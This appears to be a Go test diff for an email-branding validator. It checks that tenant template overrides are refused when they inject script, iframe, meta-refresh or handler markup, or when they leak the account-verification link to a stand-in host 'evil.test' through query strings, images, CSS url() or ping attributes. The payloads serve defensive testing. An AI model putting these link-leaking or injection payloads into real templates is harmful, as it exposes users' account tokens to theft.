@@ -1,0 +1,140 @@
+package brand_test
+
+import (
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"bourse/internal/brand"
+	"bourse/internal/fault"
+	"bourse/internal/testkit"
+)
+
+// fitting is an override of verify_email that keeps every rule.
+var fitting = brand.Override{
+	Subject: "Your {{.Brand.ProductName}} account",
+	Text:    "{{/* ours */}}Ahoi{{if .Brand.SupportAddress}}, ask {{.Brand.SupportAddress}}{{end}}.\n\n{{.Values.link}}\n",
+	HTML:    `<h1 style="color:{{.Brand.PrimaryColor}}">Ahoi</h1><p><a class="x" href="{{.Values.link}}">Go</a> or copy <code>{{.Values.link}}</code></p>`,
+}
+
+func TestATenantsWordsMayTellValuesAndTheBrandAndNothingElse(t *testing.T) {
+	t.Parallel()
+	if err := fitting.Check(northwind, "verify_email"); err != nil {
+		t.Fatal(err)
+	}
+	refused := func(field string, sources ...string) {
+		t.Helper()
+		for _, source := range sources {
+			override := fitting
+			switch field {
+			case "subject":
+				override.Subject = source
+			case "text":
+				override.Text = source
+			case "html":
+				override.HTML = source
+			}
+			err := override.Check(northwind, "verify_email")
+			if failure := testkit.WantFault(t, err, fault.ValidationError, field); strings.Contains(failure.Message, "somewhere") {
+				t.Errorf("the %s %q is only refused because it has no link", field, source)
+			}
+		}
+	}
+	refused("subject", "", " ", "{{.Values.link}}", "a {{.Values.link}} b", "two\nlines", strings.Repeat("x", 301), "{{.Brand.Slug}}", "{{if", "\x00", "\xff")
+	for _, field := range []string{"text", "html"} {
+		refused(field,
+			"{{range 1000000000}}x{{end}}", "{{range .Values}}{{.}}{{end}}", "{{with .Values}}{{.link}}{{end}}", "{{define `x`}}{{end}}y", "{{block `x` .}}{{end}}",
+			"{{template `x`}}", "{{.}}", "{{.Values}}", "{{.Brand}}", "{{$}}", "{{$x := 1}}", "{{printf `%s` .Values.link}}", "{{.Values.link | html}}", "{{index .Values `link`}}",
+			"{{call .Brand.Compose}}", "{{.Brand.Compose}}", "{{.Brand.ProductName.X}}", "{{.Values.unknown}}", "{{len .Values.link}}", "{{js `x`}}", "{{break}}",
+			"{{if eq .Values.link `x`}}a{{end}}", "{{if gt 1 2}}a{{end}}", "{{if $x := .Values.link}}a{{end}}", "{{if true}}a{{end}}", "{{(.Values).link}}", "{{1}}", "{{`text`}}",
+			strings.Repeat("x", 40_001))
+	}
+	refused("text", "{{if not .Brand.ProductName}} {{.Values.link}} {{end}}")
+	refused("html", "<script>x</script>", "<SCRIPT src=//e.test>", `<form action="https://e.test"><input></form>`, `<a href="#" onclick="x()">x</a>`, "<iframe src=x>", `<base href="https://e.test">`,
+		`<meta http-equiv=refresh content="0;url=https://e.test">`, `<p>{{.Values.link}}</p><p title="{{.Brand.ProductName}}`, "</body></html><body>")
+	for field, override := range map[string]brand.Override{"text": {Subject: "x", Text: "no link"}, "html": {Subject: "x", Text: "{{.Values.link}}", HTML: "<p>no link</p>"}} {
+		testkit.WantFault(t, override.Check(northwind, "verify_email"), fault.ValidationError, field)
+	}
+	testkit.WantFault(t, fitting.Check(northwind, "no_such_mail"), fault.NotFound)
+}
+
+func TestALinkThatOpensAnAccountBecomesNoPartOfAnotherAddress(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{
+		"https://evil.test/?{{.Values.link}}", "https://evil.test/?\n{{- .Values.link}}", "{{.Values.link}}.evil.test", "{{.Values.link}}{{.Values.link}}",
+		"https://evil.test/?{{if .Brand.LogoURL}} {{end}}{{.Values.link}}", "https://evil.test/?{{if .Brand.ProductName}}{{.Values.link}}{{end}}",
+		"https://evil.test/?{{.Brand.SupportAddress}}{{.Values.link}}",
+	} {
+		testkit.WantFault(t, brand.Override{Subject: "x", Text: text}.Check(northwind, "verify_email"), fault.ValidationError, "text")
+	}
+	for _, markup := range []string{
+		`<img src="{{.Values.link}}">`, `<img src="https://evil.test/?{{.Values.link}}">`, `<a href="https://evil.test/?{{.Values.link}}">x</a>`, `<a href={{.Values.link}}>x</a>`,
+		`<a href='https://evil.test/?x= href="{{.Values.link}}"'>x</a>`, `<img src='https://evil.test/?x= href="{{.Values.link}}"'>`, `<p>https://evil.test/?{{.Values.link}}</p>`,
+		`<p>https://evil.test/?"{{.Values.link}}"</p>`, `<style>p { background: url("{{.Values.link}}") }</style>`, `<style>p { background: url(https://evil.test/> {{.Values.link}} ) }</style>`,
+		`<p style="background:url(https://evil.test/?a= {{.Values.link}} )">`, `<a href="{{.Values.link}}" ping="{{.Values.link}}">x</a>`, `<a ping="{{.Values.link}}">x</a>`,
+		`<a href="https://evil.test/?{{if .Brand.LogoURL}}>{{end}}{{.Values.link}}">x</a>`, `<a href="https://evil.test/?{{if .Brand.LogoURL}}" href="{{.Values.link}}{{end}}">`,
+		`<a href="https://evil.test/? {{.Values.link}} ">x</a>`, `<!-- {{.Values.link}} -->x`, `<a title=">{{.Values.link}}<" href="#">x</a>`, `<p {{.Values.link}} >x`, `{{.Values.link}}`,
+	} {
+		if err := (brand.Override{Subject: "x", Text: "{{.Values.link}}", HTML: markup}).Check(northwind, "verify_email"); err == nil {
+			t.Errorf("%s is accepted", markup)
+		} else {
+			testkit.WantFault(t, err, fault.ValidationError, "html")
+		}
+	}
+}
+
+// FuzzOverride looks for words that keep the rules and still fail to be written, or that put a link where it must not be.
+func FuzzOverride(f *testing.F) {
+	f.Add(fitting.Subject, fitting.Text, fitting.HTML)
+	f.Add("{{if eq .Brand.ProductName `x`}}a{{else}}b{{end}}", "a\n{{if .Values.link}}\n{{.Values.link}}\n{{end}}", `<a href="{{.Values.link}}">{{if not .Brand.LogoURL}}x{{else}}y{{end}}</a>`)
+	f.Add("x", "{{.Values.link}}", `<p>{{if and .Brand.LogoURL (ne .Brand.AppURL "x")}}<b> {{.Values.link}} </b>{{end}}</p>`)
+	f.Add("x", "{{- .Values.link -}}", `<img src='x href="{{.Values.link}}"'>`)
+	f.Fuzz(func(t *testing.T, subject, text, markup string) {
+		override := brand.Override{Subject: subject, Text: text, HTML: markup}
+		if override.Check(northwind, "verify_email") != nil {
+			return
+		}
+		for _, logo := range []string{"", "https://cdn.test/l.png"} {
+			of := northwind
+			of.LogoURL = logo
+			const link = "https://northwind.test/SECRET?token=t"
+			letter, err := override.Write(of, "verify_email", brand.Values{"link": link})
+			if err != nil {
+				continue // written as the platform does
+			}
+			if strings.Contains(letter.Subject, "SECRET") {
+				t.Fatalf("the subject is %q", letter.Subject)
+			}
+			for word := range strings.FieldsSeq(letter.Text) {
+				if strings.Contains(word, "SECRET") && word != link && !strings.Contains(text, "SECRET") {
+					t.Fatalf("the text has %q", word)
+				}
+			}
+			if markup != "" && !strings.Contains(markup+text, "SECRET") {
+				wantLinkAlone(t, letter.HTML)
+			}
+		}
+	})
+}
+
+// wantLinkAlone looks at markup as a mail program does.
+func wantLinkAlone(t *testing.T, markup string) {
+	t.Helper()
+	tokens := html.NewTokenizer(strings.NewReader(markup))
+	for {
+		kind := tokens.Next()
+		if kind == html.ErrorToken {
+			return
+		}
+		token := tokens.Token()
+		for _, attribute := range token.Attr {
+			if strings.Contains(attribute.Val+attribute.Key, "SECRET") && (token.Data != "a" || attribute.Key != "href" || attribute.Val != "https://northwind.test/SECRET?token=t") {
+				t.Fatalf("%s has %s=%q", token.Data, attribute.Key, attribute.Val)
+			}
+		}
+		if kind == html.CommentToken && strings.Contains(token.Data, "SECRET") {
+			t.Fatalf("a comment has %q", token.Data)
+		}
+	}
+}
